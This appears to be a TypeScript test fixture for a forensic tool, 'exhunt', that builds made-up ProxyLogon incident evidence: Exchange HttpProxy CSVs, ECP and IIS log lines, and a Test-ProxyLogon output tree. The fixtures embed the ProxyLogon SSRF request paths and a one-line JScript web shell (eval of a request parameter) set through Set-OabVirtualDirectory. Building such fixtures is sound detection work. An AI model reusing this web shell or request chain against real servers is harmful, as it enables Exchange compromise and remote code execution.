// Evidence trees in the shapes responders bring: Test-ProxyLogon's output folder, exported logs, trimmed excerpts.
// Every value here is made up for exhunt's tests (documentation address ranges, example host names).

export type Tree = Record<string, string | Buffer>;

const crlf = (lines: string[]) => lines.map((l) => `${l}\r\n`).join('');
const q = (values: string[]) => values.map((v) => `"${v.replace(/"/g, '""')}"`).join(',');

export const ATTACKER = '198.51.100.23';
export const SERVER = 'EXCH01';
const BACKEND = 'exch01.contoso.local:444';
const CANARY = 'Qm9ndXNDYW5hcnk.';

/** The ProxyLogon chain as HttpProxy\Ecp rows: time, request id, anchor mailbox, status, user agent. */
export const CHAIN: [string, string, string, string, string][] = [
  [
    '2021-03-02T22:14:05.118Z',
    '3c6f1f0e-5b1a-4e55-9d1e-000000000001',
    `ServerInfo~b]@${BACKEND}/autodiscover/autodiscover.xml?#`,
    '200',
    'ExchangeServicesClient/0.0.0.0',
  ],
  [
    '2021-03-02T22:14:06.541Z',
    '3c6f1f0e-5b1a-4e55-9d1e-000000000002',
    `ServerInfo~b]@${BACKEND}/mapi/emsmdb/?#`,
    '200',
    'python-requests/2.25.1',
  ],
  [
    '2021-03-02T22:14:08.907Z',
    '3c6f1f0e-5b1a-4e55-9d1e-000000000003',
    `ServerInfo~b]@${BACKEND}/ecp/proxyLogon.ecp?#`,
    '241',
    'python-requests/2.25.1',
  ],
  [
    '2021-03-02T22:14:15.330Z',
    '3c6f1f0e-5b1a-4e55-9d1e-000000000004',
    `ServerInfo~b]@${BACKEND}/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${CANARY}&schema=OABVirtualDirectory#`,
    '200',
    'python-requests/2.25.1',
  ],
  [
    '2021-03-02T22:14:19.876Z',
    '3c6f1f0e-5b1a-4e55-9d1e-000000000005',
    `ServerInfo~b]@${BACKEND}/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${CANARY}&schema=ResetOABVirtualDirectory#`,
    '200',
    'python-requests/2.25.1',
  ],
];

const TPL_COLUMNS = [
  'DateTime',
  'RequestId',
  'ClientIPAddress',
  'UrlHost',
  'UrlStem',
  'RoutingHint',
  'UserAgent',
  'AnchorMailbox',
  'HttpStatus',
];

/** Test-ProxyLogon's nine-column CSV as Windows PowerShell 5's Export-Csv writes it. */
export function tplHttpProxyCsv(rows = CHAIN): string {
  return crlf([
    '#TYPE Selected.System.Management.Automation.PSCustomObject',
    q(TPL_COLUMNS),
    ...rows.map(([t, id, anchor, status, ua]) =>
      q([t, id, ATTACKER, 'mail.contoso.example', '/ecp/x.js', 'X-BEResource-Cookie', ua, anchor, status]),
    ),
  ]);
}

const NATIVE_FIELDS =
  'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,UrlQuery';

/** The same rows in the HttpProxy log itself (more columns, Exchange's own layout). */
export function nativeHttpProxyLog(rows = CHAIN): string {
  return crlf([
    NATIVE_FIELDS,
    '#Software: Microsoft Exchange Server',
    '#Version: 15.01.2176.002',
    '#Log-type: HttpProxy Logs',
    '#Date: 2021-03-02T22:00:00.000Z',
    `#Fields: ${NATIVE_FIELDS}`,
    '2021-03-02T22:10:00.001Z,0d0f9a55-1111-4c1e-8f00-000000000000,15,1,2176,2,,Ecp,mail.contoso.example,/ecp/,,Negotiate,true,CONTOSO\\HealthMailbox1,,,AMProbe/Local/ClientAccess,127.0.0.1,EXCH01,200,200,,GET,,,,,,,',
    ...rows.map(
      ([t, id, anchor, status, ua]) =>
        `${t},${id},15,1,2176,2,,Ecp,mail.contoso.example,/ecp/x.js,,,false,,,${anchor},${ua},${ATTACKER},EXCH01,${status},${status},,POST,Proxy,${BACKEND},,,X-BEResource-Cookie,,`,
    ),
  ]);
}

const SCRIPT =
  '<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""q7z""],""unsafe"");}</script>';

/** ECP Server lines trimmed to time and command, as incident write-ups publish them (no #Fields line). */
export function trimmedEcpLog(): string {
  return crlf([
    '#Software: Microsoft Exchange Server',
    '#Log-type: ECP Server Log',
    'Columns kept: time, command',
    '2021-03-02T22:14:12.004Z,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;;S:EX=',
    `2021-03-02T22:14:15.221Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://g/${SCRIPT}''.Identity=''5e0b9d1c-7a0e-4f4e-9a51-2f3f6b7d1a00'''`,
    "2021-03-02T22:14:16.480Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''5e0b9d1c-7a0e-4f4e-9a51-2f3f6b7d1a00''';;S:EX=",
    "2021-03-02T22:14:18.002Z,'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''EXCH01\\OAB (Default Web Site)''';;S:EX=",
    "2021-03-02T22:14:19.790Z,'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Path=''C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB''';;S:EX=",
  ]);
}

/** The same script line under the log's full #Fields, its ServerName and EventId columns cut away. */
export function strippedEcpLog(): string {
  return crlf([
    '#Software: Microsoft Exchange Server',
    '#Version: 15.01.2176.002',
    '#Log-type: ECP Server Log',
    '#Fields: TimeStamp,ServerName,EventId,EventData',
    `2021-03-02T22:14:15.221Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://g/${SCRIPT}''.Identity=''5e0b9d1c'''`,
  ]);
}

/** IIS W3SVC1 lines without their #Fields header and with the server address masked, as published. */
function trimmedIisLog(): string {
  const ua =
    'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36';
  const line = (t: string, id: string, status: number) =>
    `2021-03-05 ${t} xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=${id};&encoding=; 443 - 203.0.113.77 ${ua} - ${status} 0 0 120`;
  return crlf([
    line('04:11:02', '8a1e77c2-0c1d-4b7a-b0a1-000000000101', 200),
    line('04:11:02', '8a1e77c2-0c1d-4b7a-b0a1-000000000102', 200),
  ]);
}

/** A Test-ProxyLogon -OutPath folder with every output, and -CollectFiles copies. */
export function tplOutputTree(root = 'Test-ProxyLogonLogs'): Tree {
  const c = `${root}/CollectedLogFiles/${SERVER}`;
  return {
    [`${root}/${SERVER}-LogAgeDays.csv`]: crlf([
      '#TYPE System.Management.Automation.PSCustomObject',
      q([
        'Oabgen',
        'Ecp',
        'AutodProxy',
        'EasProxy',
        'EcpProxy',
        'EwsProxy',
        'MapiProxy',
        'OabProxy',
        'OwaProxy',
        'OwaCalendarProxy',
        'PowershellProxy',
        'RpcHttpProxy',
      ]),
      q(['29.5', '29.5', '6.2', '6.2', '6.2', '6.2', '6.2', '6.2', '6.2', '6.2', '6.2', '6.2']),
    ]),
    [`${root}/${SERVER}-Cve-2021-26855.csv`]: tplHttpProxyCsv(),
    [`${root}/${SERVER}-Cve-2021-27065-ResetVDir.csv`]: tplHttpProxyCsv(CHAIN.slice(4)),
    [`${root}/${SERVER}-Cve-2021-26857.csv`]: crlf([
      '#TYPE Selected.System.Diagnostics.Eventing.Reader.EventLogRecord',
      q(['TimeCreated', 'MachineName', 'Message']),
      q([
        '3/2/2021 11:20:31 PM',
        'EXCH01.contoso.local',
        'Watson report about to be sent for process id: 4242.\r\nSystem.InvalidCastException: Unable to cast object.\r\n   at Microsoft.Exchange.UM.UMCore.Deserialize()',
      ]),
    ]),
    [`${root}/${SERVER}-Cve-2021-26858.log`]: crlf([
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\OABGeneratorLog\\OABGenerator_20210303-1.LOG',
    ]),
    [`${root}/${SERVER}-Cve-2021-26858-DownloadPaths.log`]: crlf([
      "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx'",
    ]),
    [`${root}/${SERVER}-Cve-2021-27065.log`]: crlf([
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer20210302-1.LOG',
    ]),
    [`${root}/${SERVER}-other.csv`]: crlf([
      '#TYPE System.Management.Automation.PSCustomObject',
      q(['ComputerName', 'Type', 'Path', 'Name', 'LastWrite']),
      q([SERVER, 'LsassDump', 'C:\\root\\lsass.dmp', 'lsass.dmp', '3/3/2021 2:10:44 AM']),
      q([SERVER, 'SuspiciousArchive', 'C:\\ProgramData\\VSS\\pst.7z', 'pst.7z', '3/3/2021 2:31:09 AM']),
    ]),
    [`${c}/CVE26855/HttpProxy_2021030222-1.LOG`]: nativeHttpProxyLog(),
    [`${c}/CVE26858/OABGenerator_20210303-1.LOG`]: crlf([
      "2021-03-03T01:12:40.123Z,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx' needs to be removed.",
    ]),
    [`${c}/SuspiciousFiles/lsass.dmp_0`]: Buffer.concat([Buffer.from('MDMP'), Buffer.alloc(60, 7)]),
  };
}

/** The incident shape of a published write-up: Test-ProxyLogon's CSV, a trimmed ECP log, trimmed IIS lines. */
export function incidentTree(): Tree {
  return {
    [`Test-ProxyLogonLogs/${SERVER}-Cve-2021-26855.csv`]: tplHttpProxyCsv(),
    'Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210302-1.LOG': trimmedEcpLog(),
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log': trimmedIisLog(),
  };
}
